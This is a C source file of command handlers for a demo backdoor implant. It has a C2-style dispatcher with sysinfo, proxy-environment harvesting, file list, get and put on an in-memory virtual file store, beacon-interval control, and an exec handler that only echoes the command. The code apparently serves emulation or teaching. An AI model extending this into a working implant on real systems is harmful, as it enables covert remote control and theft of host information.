/* Backdoor: the command handlers. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <zlib.h>

#include "backdoor.h"

void reply(struct bd *b, uint16_t cmd, const void *data, size_t n)
{
    size_t w = beta_pack(b->out + b->outn, sizeof(b->out) - b->outn, cmd, ++b->seq, data, n,
                         b->cfg.key);
    if (w)
        b->outn += w;
}

void cmd_sysinfo(struct bd *b)
{
    char info[512];
    const char *user = getenv("USER"), *home = getenv("HOME"), *shell = getenv("SHELL");
    int n = snprintf(info, sizeof(info),
                     "campaign=%s\nuser=%s\nhome=%s\nshell=%s\nheartbeat=%d\nc2=%u\nver=%d\n",
                     b->cfg.campaign, user ? user : "?", home ? home : "?", shell ? shell : "?",
                     HEARTBEAT_S, b->cfg.n_c2, TOOL_VERSION);
    reply(b, CMD_REPLY, info, (size_t)n);
}

struct vfs_entry *vfs_find(struct bd *b, const char *path)
{
    for (unsigned i = 0; i < b->nfs; i++)
        if (!strcmp(b->fs[i].path, path))
            return &b->fs[i];
    return NULL;
}

void cmd_list(struct bd *b, const char *prefix)
{
    char buf[2048];
    size_t n = 0;
    size_t pl = strlen(prefix);
    for (unsigned i = 0; i < b->nfs && n + 96 < sizeof(buf); i++) {
        if (strncmp(b->fs[i].path, prefix, pl))
            continue;
        n += (size_t)snprintf(buf + n, sizeof(buf) - n, "%6zu %08lx %s\n", b->fs[i].size,
                              crc32(0L, b->fs[i].data, (uInt)b->fs[i].size), b->fs[i].path);
    }
    reply(b, CMD_REPLY, buf, n);
}

void cmd_get(struct bd *b, const char *path)
{
    struct vfs_entry *e = vfs_find(b, path);
    if (!e) {
        reply(b, CMD_ERROR, "no such file", 12);
        return;
    }
    reply(b, CMD_REPLY, e->data, e->size);
}

/* payload: path NUL data */
void cmd_put(struct bd *b, const uint8_t *p, size_t n)
{
    const uint8_t *z = memchr(p, 0, n);
    if (!z || z == p || (size_t)(z - p) >= sizeof(b->fs[0].path)) {
        reply(b, CMD_ERROR, "bad put", 7);
        return;
    }
    struct vfs_entry *e = vfs_find(b, (const char *)p);
    if (!e) {
        if (b->nfs >= sizeof(b->fs) / sizeof(b->fs[0])) {
            reply(b, CMD_ERROR, "full", 4);
            return;
        }
        e = &b->fs[b->nfs++];
        memcpy(e->path, p, (size_t)(z - p) + 1);
    }
    size_t dn = n - (size_t)(z - p) - 1;
    if (dn > sizeof(e->data))
        dn = sizeof(e->data);
    memcpy(e->data, z + 1, dn);
    e->size = dn;
    reply(b, CMD_REPLY, "ok", 2);
}

void cmd_exec(struct bd *b, const char *line)
{
    char out[600];
    /* the demo never runs anything */
    int n = snprintf(out, sizeof(out), "[demo] would run: %.500s\n", line);
    reply(b, CMD_REPLY, out, (size_t)n);
}

void cmd_sleep(struct bd *b, const char *arg)
{
    unsigned s = (unsigned)strtoul(arg, NULL, 10);
    if (s >= 10 && s <= 86400)
        b->cfg.interval_s = s;
    char msg[64];
    int n = snprintf(msg, sizeof(msg), "interval %u next %u", b->cfg.interval_s,
                     beta_cfg_interval(&b->cfg, b->seq * 2654435761u));
    reply(b, CMD_REPLY, msg, (size_t)n);
}

#if TOOL_VERSION >= 2
void cmd_proxy(struct bd *b)
{
    char msg[512];
    const char *keys[] = {"http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "no_proxy"};
    size_t n = 0;
    for (unsigned i = 0; i < 5; i++) {
        const char *v = getenv(keys[i]);
        n += (size_t)snprintf(msg + n, sizeof(msg) - n, "%s=%s\n", keys[i], v ? v : "");
        if (n >= sizeof(msg))
            n = sizeof(msg) - 1;
    }
    reply(b, CMD_REPLY, msg, n);
}
#endif

void dispatch(struct bd *b, uint16_t cmd, uint8_t *p, size_t n)
{
    p[n] = 0;
    switch (cmd) {
    case CMD_HELLO:
        reply(b, CMD_REPLY, "BX ready", 8);
        break;
    case CMD_SYSINFO:
        cmd_sysinfo(b);
        break;
    case CMD_LIST:
        cmd_list(b, (const char *)p);
        break;
    case CMD_GET:
        cmd_get(b, (const char *)p);
        break;
    case CMD_PUT:
        cmd_put(b, p, n);
        break;
    case CMD_EXEC:
        cmd_exec(b, (const char *)p);
        break;
    case CMD_SLEEP:
        cmd_sleep(b, (const char *)p);
        break;
#if TOOL_VERSION >= 2
    case CMD_PROXY:
        cmd_proxy(b);
        break;
#endif
    case CMD_EXIT:
        b->running = 0;
        reply(b, CMD_REPLY, "bye", 3);
        break;
    default:
        reply(b, CMD_ERROR, "unknown command", 15);
    }
}
